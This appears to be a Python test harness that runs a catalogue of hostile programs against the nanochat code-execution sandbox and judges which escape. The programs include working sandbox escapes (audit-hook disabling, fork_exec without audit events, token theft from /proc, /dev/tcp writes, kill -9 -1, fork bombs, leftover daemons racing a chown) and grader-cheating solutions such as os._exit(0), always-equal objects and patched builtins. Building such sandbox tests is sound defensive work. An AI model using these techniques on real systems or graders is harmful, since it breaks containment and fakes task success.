"""
Hostile programs against nanochat.sandbox, an evaluator that runs them, and a session that sets up
a world for them to attack and judges, attack by attack, what got out. Standard library only, so
that user nobody can run the evaluator with the system's python3 on a copy of the code.

    python tests/sandbox_attacks.py session root|nobody [CODE_DIR]   (as root; prints the table)

tests/test_sandbox_attacks.py runs the session for both users and asserts every attack contained.
CODE_DIR (default: this checkout) is the folder holding nanochat/sandbox.py: pointing it at an older
checkout measures that code (where it has no run_tests, solutions are scored as 81f54d8 scored
them: the program's exit status).
"""
from __future__ import annotations

import glob
import json
import os
import pwd
import secrets
import select
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
from dataclasses import dataclass, field
from pathlib import Path

TIMEOUT_S = 1.5          # each hostile run's limit

# Inside every attack program: the world's addresses, and the ways in (hook off, fork_exec).
PRELUDE = r'''
import os, sys, json, time
CFG = json.loads(%r)
OUT = CFG["out"]
def escaped(what):
    print("ESCAPED:", what, flush=True)
def off_globals():
    m = sys.modules["__main__"].__dict__
    if "DENY_PREFIXES" in m:         # the audit hook's globals, where it had them
        m["DENY_PREFIXES"], m["PATH_EVENTS"], m["ROOT"] = ("nothing.",), set(), ""   # "" + "/" prefixes all
def off_realpath():
    os.path.realpath = lambda p, *a, **k: os.getcwd()
def off_code():
    import gc
    noop = lambda event, args: None
    for f in gc.get_objects():
        if type(f) is type(noop) and f.__name__ in ("_hook", "hook") and f.__code__.co_argcount == 2:
            if f.__closure__:
                for name, cell in zip(f.__code__.co_freevars, f.__closure__):
                    if name == "deny":
                        cell.cell_contents = ("nothing.",)
                    elif name == "inside":
                        cell.cell_contents = lambda p: True
            else:
                f.__code__ = noop.__code__
def hook_off():
    off_globals(); off_code(); off_realpath()
def fork_exec(argv, setsid=False):
    # starts a program without any audit event
    import _posixsubprocess
    r, w = os.pipe()
    args = [[os.fsencode(a) for a in argv], [os.fsencode(argv[0])], True, (w,), None, None,
            -1, -1, -1, -1, -1, -1, r, w, True, setsid, -1, None, None, None, -1, None]
    try:
        pid = _posixsubprocess.fork_exec(*args, False)
    except TypeError:
        pid = _posixsubprocess.fork_exec(*args)
    os.close(w); os.read(r, 100); os.close(r)
    return pid
SLEEPER = [sys.executable, "-c", "import time; time.sleep(60)", CFG["marker"]]
def attempt(what, fn):
    try:
        fn()
        escaped(what)
    except Exception as e:
        print("held:", what, type(e).__name__, str(e)[:80], flush=True)
'''


@dataclass
class Attack:
    name: str
    what: str
    body: str
    via: str = "run"          # run (run_python) | score (a wrong solution, must not pass) | leftover
    hook_off: bool = True     # switch the audit hook off first (the kernel's walls alone)
    followups: str = ""       # leftover: "wrong" (scored wrong solutions must fail) | "honest" (must pass)
    runs_after: int = 3       # how many such runs follow it


# The program leaves its process group (what outlived the limit before) and becomes, under the
# marker's name, a loop that for 20 s does something to every later run's working folder it finds.
LEFTOVER_LOOP = """
end = time.time() + 20
while time.time() < end:
    for d in glob.glob('/tmp/nanochat-sandbox-*/'):
        try:
            %s
        except OSError:
            pass
"""
LEFTOVER = """
try:
    os.setsid()      # where the program is not a group leader (it was PID 1 of a namespace)
except OSError:
    pass
if os.fork() == 0:
    try:
        os.setsid()  # where it is (it was a process group of its own)
    except OSError:
        pass
    loop = 'import glob, json, os, time\\nCFG = json.loads(%%r)\\n' %% json.dumps(CFG) + %r
    os.execv(sys.executable, [sys.executable, '-c', loop, CFG['marker']])
os.execv(SLEEPER[0], SLEEPER)   # the parent stays too, under the marker's name
"""
CHECKS = "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert abs(candidate(0.5, 0.25) - 0.75) < 1e-9\n"
WRONG = "def add(a, b):\n    return 0\n"
RIGHT = "def add(a, b):\n    return a + b\n"

ATTACKS = [
    # ---- files outside the working folder
    Attack("write-outside", "open() for writing outside", "open(OUT + '/write-outside', 'w').write('x')"),
    Attack("delete-outside", "delete a file outside", "os.remove(OUT + '/victim-delete')"),
    Attack("rename-outside", "rename a file outside", "os.rename(OUT + '/victim-rename', OUT + '/rename-outside')"),
    Attack("symlink-outside", "symlink outside", "os.symlink('/', OUT + '/symlink-outside')"),
    Attack("hook-globals-off", "audit hook off through its globals, then write",
           "off_globals()\nopen(OUT + '/hook-globals-off', 'w').write('x')", hook_off=False),
    Attack("hook-realpath-off", "audit hook off by patching os.path.realpath, then write",
           "off_realpath()\nopen(OUT + '/hook-realpath-off', 'w').write('x')", hook_off=False),
    Attack("hook-code-off", "audit hook off by swapping its code through gc, then write",
           "off_code()\nopen(OUT + '/hook-code-off', 'w').write('x')", hook_off=False),
    Attack("fork-exec-sh", "_posixsubprocess.fork_exec /bin/sh (no audit event) writes outside",
           "fork_exec(['/bin/sh', '-c', 'echo x > ' + OUT + '/fork-exec-sh'])\ntime.sleep(0.3)", hook_off=False),
    Attack("dir-fd-write", "write outside through dir_fd=", "fd = os.open(OUT, os.O_RDONLY)\n"
           "os.write(os.open('dir-fd-write', os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=fd), b'x')", hook_off=False),
    Attack("sqlite3", "sqlite3.connect() creates a database outside",
           "import sqlite3\nsqlite3.connect(OUT + '/sqlite3.db').execute('create table t (x)')", hook_off=False),
    Attack("mkfifo", "mkfifo outside", "os.mkfifo(OUT + '/mkfifo')", hook_off=False),
    Attack("mknod", "mknod outside", "import stat\nos.mknod(OUT + '/mknod', 0o600 | stat.S_IFREG)", hook_off=False),
    Attack("setxattr", "setxattr on a file outside", "os.setxattr(OUT + '/victim-xattr', 'user.attack', b'1')",
           hook_off=False),
    Attack("host-tmp", "leave files in the host's /tmp, /var/tmp, /dev/shm",
           "for d in ('/tmp', '/var/tmp', '/dev/shm'):\n"
           "    try:\n        open(d + '/nanochat-attack-' + CFG['marker'], 'w').write('x')\n"
           "    except OSError as e:\n        print('held', d, e)"),
    Attack("fill-root", "write into the sandbox's own root (a tmpfs: memory outside every rlimit)",
           "n = 0\nfor i in range(16):\n    try:\n        open('/fill%d' % i, 'wb').write(b'x' * (16 << 20))\n"
           "    except OSError:\n        break\n    n += 16\n    print('WROTE_MIB', n, flush=True)"),
    Attack("fill-disk", "fill the disk the working folder is on (16 MiB files up to 256 MiB)",
           "n = 0\nfor i in range(16):\n    try:\n        open('fill%d' % i, 'wb').write(b'x' * (16 << 20))\n"
           "    except OSError:\n        break\n    n += 16\n    print('WROTE_MIB', n, flush=True)"),
    # ---- reading what is not its own
    Attack("proc-environ-token", "HF_TOKEN from /proc/<pid>/environ of the evaluator", """
import glob
for p in glob.glob('/proc/[0-9]*/environ'):
    try:
        data = open(p, 'rb').read()
    except OSError:
        continue
    if CFG['token'].encode() in data:
        escaped('token in ' + p)
""", hook_off=False),
    Attack("read-shadow", "read /etc/shadow", "attempt('/etc/shadow read', lambda: open('/etc/shadow').read())",
           hook_off=False),
    Attack("read-host-file", "read the caller's world-readable files (data, tokens, code)",
           "attempt('host file read', lambda: open(CFG['readable']).read())", hook_off=False),
    Attack("host-proc", "see the host's processes in /proc", """
import glob
for p in glob.glob('/proc/[0-9]*/cmdline'):
    try:
        if CFG['evaluator_marker'].encode() in open(p, 'rb').read():
            escaped('evaluator visible as ' + p)
    except OSError:
        pass
"""),
    Attack("host-network", "see the host's network interfaces", """
import socket
names = [n for _, n in socket.if_nameindex() if n != 'lo']
if names:
    escaped('interfaces ' + ','.join(names))
"""),
    # ---- the network and the host's sockets
    Attack("tcp-hook-on", "TCP to a local service through fork_exec, the hook on",
           "fork_exec(['/bin/bash', '-c', 'echo x > /dev/tcp/127.0.0.1/%d' % CFG['tcp_port']])\ntime.sleep(0.3)",
           hook_off=False),
    Attack("tcp-local", "TCP to local services (a test listener, MariaDB, slurmctld)", """
import socket
for port in [CFG['tcp_port']] + CFG['service_ports']:
    attempt('tcp %d' % port, lambda: socket.create_connection(('127.0.0.1', port), timeout=1).sendall(b'x'))
"""),
    Attack("udp-local", "UDP to a local listener", """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'x', ('127.0.0.1', CFG['udp_port']))
"""),
    Attack("unix-sockets", "the host's Unix sockets (a test listener, munge, MariaDB)", """
import socket
for path in [CFG['unix_path']] + CFG['host_sockets']:
    def go(path=path):
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        s.sendall(b'x')
    attempt('unix socket ' + path, go)
"""),
    Attack("abstract-socket", "an abstract Unix socket of the host", """
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('\\0' + CFG['abstract_name'])
s.sendall(b'x')
"""),
    # ---- processes
    Attack("setsid-daemon", "a setsid daemon (fork_exec, the hook on) outliving the run",
           "fork_exec(SLEEPER, setsid=True)\ntime.sleep(0.2)", hook_off=False),
    Attack("setsid-self", "the program and a child leave their process group and sleep past the limit",
           LEFTOVER % "time.sleep(60)"),
    Attack("kill-all", "kill(-1, 9): every process of the user (a bystander, the evaluator)",
           "fork_exec(['/bin/kill', '-9', '-1'])\ntime.sleep(0.2)\nhook_off()\nos.kill(-1, 9)", hook_off=False),
    Attack("pidfd-evaluator", "pidfd_send_signal(SIGKILL) to the evaluator", """
import glob, signal
pids = {os.getppid()}
for p in glob.glob('/proc/[0-9]*/cmdline'):
    try:
        if CFG['evaluator_marker'].encode() in open(p, 'rb').read():
            pids.add(int(p.split('/')[2]))
    except (OSError, ValueError):
        pass
for pid in pids:
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
    except OSError as e:
        print('held', pid, e)
""", hook_off=False),
    Attack("kill-parent", "kill(getppid(), 9)", "os.kill(os.getppid(), 9)"),
    Attack("fork-bomb", "fork until the process cap, the children staying (later runs must still work)",
           "n = 0\nwhile n < 4096:\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
           "    if pid == 0:\n        os.execv(SLEEPER[0], SLEEPER)\n    n += 1\nprint('FORKED', n)\ntime.sleep(30)",
           via="leftover", followups="honest"),
    Attack("nested-userns", "a user namespace inside (root in it: the kernel's attack surface)",
           "import subprocess\nout = subprocess.run(['unshare', '-r', 'id', '-u'], capture_output=True, text=True)\n"
           "if out.stdout.strip() == '0':\n    escaped('root in a nested user namespace')\n"
           "else:\n    print(out.stderr)"),
    Attack("replace-later-program", "a leftover replaces later runs' program.py (later wrong solutions pass?)",
           LEFTOVER % (LEFTOVER_LOOP % "tmp = d + 'x.py'\n            open(tmp, 'w').write('raise SystemExit(0)')\n"
                                       "            os.replace(tmp, d + 'program.py')"),
           via="leftover", followups="wrong"),
    Attack("chown-symlink", "a leftover swaps program.py for a symlink to root's file while root chowns it",
           LEFTOVER % (LEFTOVER_LOOP % "os.symlink(CFG['secret'], d + 'l')\n"
                                       "            os.replace(d + 'l', d + 'program.py')"),
           via="leftover", followups="honest", runs_after=10),
    # ---- scoring: each is a wrong solution of add(a, b)
    Attack("os-exit-0", "wrong, then os._exit(0)", "def add(a, b):\n    os._exit(0)", via="score", hook_off=False),
    Attack("atexit-exit-0", "wrong, with atexit -> os._exit(0)",
           "import atexit\natexit.register(lambda: os._exit(0))\ndef add(a, b):\n    return 0", via="score",
           hook_off=False),
    Attack("sys-exit-0", "sys.exit(0) inside the function",
           "def add(a, b):\n    sys.exit(0)", via="score", hook_off=False),
    Attack("exit-at-import", "SystemExit(0) before the checks run", "raise SystemExit(0)", via="score",
           hook_off=False),
    Attack("alarm-exit-0", "a timer signal that calls os._exit(0) during the checks",
           "import signal\nsignal.signal(signal.SIGALRM, lambda *a: os._exit(0))\n"
           "signal.setitimer(signal.ITIMER_REAL, 0.05)\ndef add(a, b):\n    time.sleep(1)\n    return 0",
           via="score", hook_off=False),
    Attack("always-equal", "returns an object whose __eq__ and __lt__ always say yes",
           "class Yes:\n    __eq__ = __lt__ = lambda s, o: True\n    __sub__ = __abs__ = lambda s, *o: s\n"
           "def add(a, b):\n    return Yes()", via="score", hook_off=False),
    Attack("int-subclass", "returns an int subclass equal to everything",
           "class I(int):\n    __eq__ = lambda s, o: True\n    __sub__ = lambda s, o: 0.0\n"
           "def add(a, b):\n    return I(0)", via="score", hook_off=False),
    Attack("patch-builtins", "monkeypatches builtins the checks use (abs, AssertionError)",
           "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.AssertionError = type('E', (Exception,), {})\n"
           "def add(a, b):\n    return 5 if (a, b) == (2, 3) else 0", via="score", hook_off=False),
    Attack("settrace-skip-check", "a trace hook that ends the process when check() starts",
           "def tracer(frame, event, arg):\n    if frame.f_code.co_name == 'check':\n        os._exit(0)\n"
           "    return None\nsys.settrace(tracer)\nimport threading\nthreading.settrace(tracer)\n"
           "def add(a, b):\n    return 0", via="score", hook_off=False),
    Attack("read-checks", "reads the checks (files, /proc) and answers from them", """
import glob, re
ANSWERS = {}
for p in glob.glob('*') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/mem'):
    try:
        text = open(p, 'rb').read(1 << 20).decode('utf-8', 'replace')
    except (OSError, ValueError):
        continue
    for args, want in re.findall(r'candidate\\(([^()]*)\\) == ([^\\n]*)', text):
        ANSWERS[args.replace(' ', '')] = eval(want)
    for args, want in re.findall(r'abs\\(candidate\\(([^()]*)\\) - ([0-9.]+)\\)', text):
        ANSWERS[args.replace(' ', '')] = float(want)
def add(a, b):
    return ANSWERS.get('%r,%r' % (a, b), 0)
""", via="score"),
    Attack("forge-verdict", "writes 'passed' into every descriptor it can reach", """
import glob
for fd in range(3, 256):
    try:
        os.write(fd, b'passed\\n')
    except OSError:
        pass
for p in glob.glob('/proc/*/fd/*'):
    try:
        with open(p, 'w') as f:
            f.write('passed\\n')
    except OSError:
        pass
def add(a, b):
    return 0
""", via="score"),
    Attack("kill-checker", "kills the process running the checks, then exits 0",
           "import signal\nfor pid in (os.getppid(), 1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
           "    except OSError:\n        pass\nos._exit(0)\ndef add(a, b):\n    return 0", via="score"),
    # ---- limits (these held before; kept)
    Attack("while-true", "an endless loop", "while True:\n    pass"),
    Attack("memory-10gb", "a 10 GB allocation", "x = bytearray(10 * 1024 ** 3)\nx[-1] = 1"),
    Attack("output-flood", "100 MB on stdout", "sys.stdout.write('x' * (100 << 20))"),
]
BY_NAME = {a.name: a for a in ATTACKS}


# ----------------------------------------------------------------------------- the evaluator

def _score(sandbox, solution: str, timeout_s: float):
    if hasattr(sandbox, "run_tests"):
        return sandbox.run_tests(solution, CHECKS, "add", timeout_s=timeout_s)
    # 81f54d8 and before: one program (solution, checks, the call), passed = exit status 0
    return sandbox.run_python(f"{solution}\n\n{CHECKS}\n\ncheck(add)\n", timeout_s=timeout_s)


def run_attack(sandbox, cfg: dict, attack: Attack) -> dict:
    prelude = PRELUDE % json.dumps(cfg) + ("hook_off()\n" if attack.hook_off else "")
    program = prelude + attack.body + "\n"
    if attack.via == "score":
        r = _score(sandbox, program, TIMEOUT_S)
    else:
        r = sandbox.run_python(program, timeout_s=TIMEOUT_S)
    out = {"name": attack.name, "outcome": r.outcome, "passed": r.passed, "seconds": round(r.seconds, 2),
           "output": (r.stdout + r.stderr)[-3000:], "followups": []}
    if attack.followups == "wrong":
        out["followups"] = [_score(sandbox, WRONG, 5).passed for _ in range(attack.runs_after)]
    elif attack.followups == "honest":
        out["followups"] = [_score(sandbox, RIGHT, 10).passed and
                            sandbox.run_python("print(6 * 7)\n", timeout_s=10).stdout.strip() == "42"
                            for _ in range(attack.runs_after)]
    return out


def evaluate(cfg_path: str) -> None:
    """Reads attack names on stdin, runs each, answers one JSON line per attack."""
    from nanochat import sandbox
    cfg = json.loads(Path(cfg_path).read_text())
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        print(json.dumps(run_attack(sandbox, cfg, BY_NAME[line.strip()])), flush=True)


# ----------------------------------------------------------------------------- the session (root)

@dataclass
class World:
    base: Path
    cfg: dict
    uid: int
    hits: dict = field(default_factory=lambda: {"tcp": 0, "udp": 0, "unix": 0, "abstract": 0})
    closers: list = field(default_factory=list)
    bystander: subprocess.Popen | None = None


def _serve(world: World, kind: str, sock: socket.socket) -> None:
    def loop():
        while True:
            try:
                if kind == "udp":
                    sock.recvfrom(64)
                else:
                    conn, _ = sock.accept()
                    conn.close()
                world.hits[kind] += 1
            except OSError:
                return
    threading.Thread(target=loop, daemon=True).start()
    world.closers.append(sock.close)


def _listening(port: int) -> bool:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
        return True
    except OSError:
        return False


def make_world(code_dir: Path) -> World:
    nobody = pwd.getpwnam("nobody")
    base = Path(tempfile.mkdtemp(prefix="nanochat-attacks-", dir="/tmp"))
    base.chmod(0o755)
    out = base / "out"
    out.mkdir()
    out.chmod(0o777)           # a folder the sandbox's user could write, but for the sandbox
    for name in ("victim-delete", "victim-rename", "victim-xattr"):
        (out / name).write_text("keep me")
        os.chown(out / name, nobody.pw_uid, nobody.pw_gid)
        (out / name).chmod(0o666)
    token = "hf_" + secrets.token_hex(12)
    secret = base / "secret"
    secret.write_text("root's secret " + token)
    secret.chmod(0o600)
    readable = base / "readable"
    readable.write_text("world-readable " + token)
    readable.chmod(0o644)
    code = base / "code"
    shutil.copytree(code_dir / "nanochat", code / "nanochat", ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    shutil.copy(Path(__file__), code / "sandbox_attacks.py")
    for p in [code, *code.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    marker = "nanochatattack" + secrets.token_hex(6)
    host_sockets = [p for p in ("/run/munge/munge.socket.2", "/tmp/nanochat-slurm/mysql/mysqld.sock")
                    if os.path.exists(p)]
    cfg = {"out": str(out), "token": token, "secret": str(secret), "readable": str(readable), "marker": marker,
           "evaluator_marker": "nanochatevaluator" + secrets.token_hex(6), "unix_path": str(out / "host.sock"),
           "abstract_name": marker, "host_sockets": host_sockets,
           "service_ports": [p for p in (3307, 6817) if _listening(p)]}
    world = World(base=base, cfg=cfg, uid=nobody.pw_uid)
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(cfg["unix_path"])
    os.chmod(cfg["unix_path"], 0o777)
    unix.listen(16)
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + marker)
    abstract.listen(16)
    cfg.update(tcp_port=tcp.getsockname()[1], udp_port=udp.getsockname()[1])
    for kind, s in (("tcp", tcp), ("udp", udp), ("unix", unix), ("abstract", abstract)):
        _serve(world, kind, s)
    (base / "cfg.json").write_text(json.dumps(cfg))
    (base / "cfg.json").chmod(0o644)
    world.bystander = subprocess.Popen(_as(nobody.pw_name) + ["sleep", "600"])
    return world


def _as(user: str) -> list[str]:
    return [] if user == "root" else ["setpriv", f"--reuid={user}", "--regid=nogroup", "--clear-groups", "--"]


def marked_processes(marker: str) -> list[int]:
    found = []
    for p in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if marker.encode() in Path(p).read_bytes() and int(p.split("/")[2]) != os.getpid():
                found.append(int(p.split("/")[2]))
        except (OSError, ValueError):
            pass
    return found


def snapshot(world: World) -> dict:
    out = Path(world.cfg["out"])
    victims = {}
    for name in ("victim-delete", "victim-rename", "victim-xattr"):
        p = out / name
        try:
            victims[name] = (p.read_text(), sorted(os.listxattr(p)))
        except OSError:
            victims[name] = None
    secret = os.stat(world.cfg["secret"])
    leftovers = [p for d in ("/tmp", "/var/tmp", "/dev/shm") for p in glob.glob(f"{d}/*{world.cfg['marker']}*")]
    return {"files": sorted(p.name for p in out.iterdir()), "victims": victims,
            "secret": (secret.st_uid, stat.S_IMODE(secret.st_mode)), "host_tmp": leftovers, "hits": dict(world.hits),
            "bystander": world.bystander.poll() is None}


class Evaluator:
    """The evaluator process (as root or as nobody), fed attack names one at a time."""

    def __init__(self, world: World, user: str, python: str):
        env = {"PATH": "/usr/bin:/bin", "HF_TOKEN": world.cfg["token"], "PYTHONPATH": str(world.base / "code"),
               "LANG": "C.UTF-8"}
        argv = _as(user) + [python, str(world.base / "code" / "sandbox_attacks.py"), "evaluate",
                            str(world.base / "cfg.json"), world.cfg["evaluator_marker"]]
        self.proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env, text=True,
                                     cwd=str(world.base), start_new_session=True)
        if self.read(120) != {"ready": True}:
            raise RuntimeError("the evaluator did not start")

    def read(self, timeout: float):
        ready, _, _ = select.select([self.proc.stdout], [], [], timeout)
        line = self.proc.stdout.readline() if ready else ""
        return json.loads(line) if line else None

    def ask(self, name: str) -> dict | None:
        try:
            self.proc.stdin.write(name + "\n")
            self.proc.stdin.flush()
        except BrokenPipeError:
            return None
        return self.read(120)

    def close(self) -> None:
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGKILL)
        self.proc.wait()


def judge(world: World, attack: Attack, before: dict, after: dict, result: dict | None) -> list[str]:
    """What got out in this attack: an empty list when it was contained."""
    got = ["the evaluator died"] if result is None else []
    result = result or {"output": "", "passed": False, "followups": []}
    new_files = sorted(set(after["files"]) - set(before["files"]))
    if new_files:
        got.append("files outside: " + ",".join(new_files))
    for name, state in after["victims"].items():
        if state != before["victims"][name]:
            got.append(f"{name} changed")
    if after["secret"] != before["secret"]:
        got.append(f"root's 0600 file now uid {after['secret'][0]} mode {oct(after['secret'][1])}")
    new_tmp = sorted(set(after["host_tmp"]) - set(before["host_tmp"]))
    if new_tmp:
        got.append("host temp files: " + ",".join(new_tmp))
    for kind, n in after["hits"].items():
        if n != before["hits"][kind]:
            got.append(f"reached the {kind} listener")
    if before["bystander"] and not after["bystander"]:
        got.append("killed a bystander process of the user")
    output = result["output"]
    if world.cfg["token"] in output:
        got.append("the token in its output")
    got += sorted({ln.split("ESCAPED:", 1)[1].strip() for ln in output.splitlines() if "ESCAPED:" in ln})
    if attack.via == "score" and result["passed"]:
        got.append("a wrong solution scored passed")
    if attack.name in ("fill-disk", "fill-root"):
        wrote = max([int(ln.split()[1]) for ln in output.splitlines() if ln.startswith("WROTE_MIB")], default=0)
        if wrote > 64:
            got.append(f"wrote {wrote} MiB outside a capped folder")
    if attack.followups == "wrong" and any(result["followups"]):
        got.append(f"{sum(result['followups'])} of {len(result['followups'])} later wrong solutions passed")
    if attack.followups == "honest" and not all(result["followups"]):
        got.append(f"{result['followups'].count(False)} of {len(result['followups'])} later honest runs failed")
    return got


def session(user: str, code_dir: Path, python: str, names: list[str] | None = None) -> list[dict]:
    """Every attack (or `names`) through one evaluator running as `user`; one row per attack."""
    world = make_world(code_dir)
    rows = []
    evaluator = None
    try:
        evaluator = Evaluator(world, user, python)
        for attack in [BY_NAME[n] for n in names] if names else ATTACKS:
            before = snapshot(world)
            result = evaluator.ask(attack.name)
            left = marked_processes(world.cfg["marker"])
            after = snapshot(world)
            got = judge(world, attack, before, after, result)
            if left:
                got.append(f"{len(left)} processes left behind")
                for pid in left:
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except ProcessLookupError:
                        pass
            if result is not None and evaluator.proc.poll() is not None:
                got.append("the evaluator died")
            rows.append({"attack": attack.name, "what": attack.what, "outcome": (result or {}).get("outcome", "-"),
                         "seconds": (result or {}).get("seconds"), "escaped": got})
            if result is None or evaluator.proc.poll() is not None:
                evaluator.close()
                evaluator = Evaluator(world, user, python)
            if world.bystander.poll() is not None:
                world.bystander = subprocess.Popen(_as("nobody") + ["sleep", "600"])
    finally:
        if evaluator is not None:
            evaluator.close()
        for pid in marked_processes(world.cfg["marker"]):
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        world.bystander.kill()
        world.bystander.wait()
        for close in world.closers:
            close()
        for d in ("/tmp", "/var/tmp", "/dev/shm"):
            for p in glob.glob(f"{d}/*{world.cfg['marker']}*"):
                Path(p).unlink(missing_ok=True)
        shutil.rmtree(world.base, ignore_errors=True)
    return rows


def python_for(user: str) -> str | None:
    """An interpreter `user` can run: ours for root, else the system's python3."""
    if user == "root":
        return sys.executable
    return "/usr/bin/python3" if os.access("/usr/bin/python3", os.X_OK) else None


if __name__ == "__main__":
    if sys.argv[1] == "evaluate":
        evaluate(sys.argv[2])
    elif sys.argv[1] == "session":
        who = sys.argv[2]
        code = Path(sys.argv[3]) if len(sys.argv) > 3 else Path(__file__).resolve().parent.parent
        for row in session(who, code, python_for(who)):
            print(f"{row['attack']:<22} {row['outcome']:<8} {'; '.join(row['escaped']) or 'contained'}", flush=True)
